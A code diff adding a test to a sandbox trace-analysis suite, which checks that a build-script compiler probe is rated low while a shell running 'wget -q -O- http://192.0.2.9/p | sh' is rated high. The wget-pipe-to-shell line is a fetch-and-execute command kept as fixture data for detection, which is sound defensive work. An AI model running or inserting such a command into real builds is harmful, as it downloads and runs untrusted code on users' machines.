@@ -140,4 +140,38 @@ describe('trace findings', () => {
     expect(f).toMatchObject({ ruleId: 'sandbox.canary-read', context: 'proc-macro', file: 'src/lib.rs' });
     expect(f?.evidence).toContain('[rustc compiling cratekeeper_detonate_consumer (proc-macro expansion)]');
   });
+
+  it('judges a build script shell by what its processes do: a compiler probe is low, a fetch is high', () => {
+    const shell = (pid: number, cmd: string) => [
+      `20 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = ${pid}`,
+      `${pid} execve("/usr/bin/sh", ["sh", "-c", "${cmd}"], 0x7f /* 1 var */) = 0`,
+    ];
+    const probe = traceFindings(
+      trace(
+        ...shell(40, 'gcc -print-search-dirs | sed -ne x'),
+        '40 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 41',
+        '41 execve("/usr/bin/gcc", ["gcc", "-print-search-dirs"], 0x7f /* 1 var */) = 0',
+        '40 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 42',
+        '42 execve("/usr/bin/sed", ["sed", "-ne", "x"], 0x7f /* 1 var */) = 0',
+      ),
+      ctx,
+    );
+    expect(probe.map((f) => [f.ruleId, f.severity])).toEqual([
+      ['sandbox.exec', 'low'],
+      ['sandbox.exec', 'info'],
+    ]);
+    const fetch = traceFindings(
+      trace(
+        ...shell(40, 'true'),
+        ...shell(50, 'wget -q -O- http://192.0.2.9/p | sh'),
+        '50 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 51',
+        '51 execve("/usr/bin/wget", ["wget", "-q", "-O-", "http://192.0.2.9/p"], 0x7f /* 1 var */) = 0',
+      ),
+      ctx,
+    );
+    expect(fetch.map((f) => [f.ruleId, f.severity, f.title.split(': ')[1]])).toEqual([
+      ['sandbox.exec', 'high', 'runs a shell with a command string'],
+      ['sandbox.exec', 'high', 'runs wget'],
+    ]);
+  });
 });
